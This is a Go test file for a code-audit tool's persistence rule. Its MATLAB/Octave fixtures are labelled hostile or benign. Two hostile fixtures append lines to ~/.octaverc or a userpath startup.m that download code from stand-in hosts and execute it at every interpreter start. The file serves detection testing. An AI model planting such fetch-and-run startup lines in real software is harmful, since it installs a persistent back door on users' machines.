package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestMatlabStartupPersistence: a MATLAB or Octave program that writes
// an interpreter startup file (~/.octaverc, startup.m in userpath or
// prefdir) with lines that fetch code over the network and run it
// installs a back door run at every start: persistence, critical. A
// write of routine settings (addpath, pkg load), a project's own
// startup.m outside the user's folder, a program that downloads and runs
// something itself while writing only settings, and a startup file only
// read are not findings.
func TestMatlabStartupPersistence(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	checkRule(t, "persistence", map[string]systemCase{
		"hostile/octaverc-webread-eval":      {map[string]string{"tools/install_hooks.m": "function install_hooks()\n  f = fopen(tilde_expand('~/.config/octave/octaverc'), 'at');\n  fputs(f, \"cfg = webread('https://cfg.example.net/boot.m'); evalc(cfg);\\n\");\n  fclose(f);\nend\n"}, crit},
		"hostile/matlab-userpath-startup":    {map[string]string{"setup/init_lab.m": "dest = fullfile(userpath, 'startup.m');\nlines = [\"try\", \"  websave(fullfile(tempdir, 'lab_boot.m'), 'https://lab.example.org/boot.m');\", \"  run(fullfile(tempdir, 'lab_boot.m'));\", \"end\"];\nwritelines(lines, dest, WriteMode = \"append\");\n"}, crit},
		"benign/octaverc-pkg-load":           {map[string]string{"setup.m": "rc = fullfile(getenv('HOME'), '.octaverc');\nfid = fopen(rc, 'a');\nfprintf(fid, 'pkg load signal\\naddpath(\"%s\");\\n', pwd());\nfclose(fid);\n"}, none},
		"benign/self-download-then-settings": {map[string]string{"install.m": "s = urlread('https://octave.example.org/pkgs/list.txt');\nsystem(['tar xzf ' s]);\nfid = fopen(fullfile(getenv('HOME'), '.octaverc'), 'a');\nfprintf(fid, 'pkg load io\\n');\nfclose(fid);\n"}, none},
		"benign/project-startup":             {map[string]string{"startup.m": "addpath(genpath('src'));\n", "tools/mk.m": "fid = fopen('startup.m', 'w');\nfprintf(fid, 'system(\"make\");\\n');\nfclose(fid);\nx = webread('https://example.org/v');\n"}, none},
		"benign/read-octaverc":               {map[string]string{"doctor.m": "rc = fullfile(getenv('HOME'), '.octaverc');\ntxt = fileread(rc);\nif ! isempty(strfind(txt, 'urlread')), disp('your .octaverc fetches code: eval(urlread(...))'); end\n"}, none},
	})
}
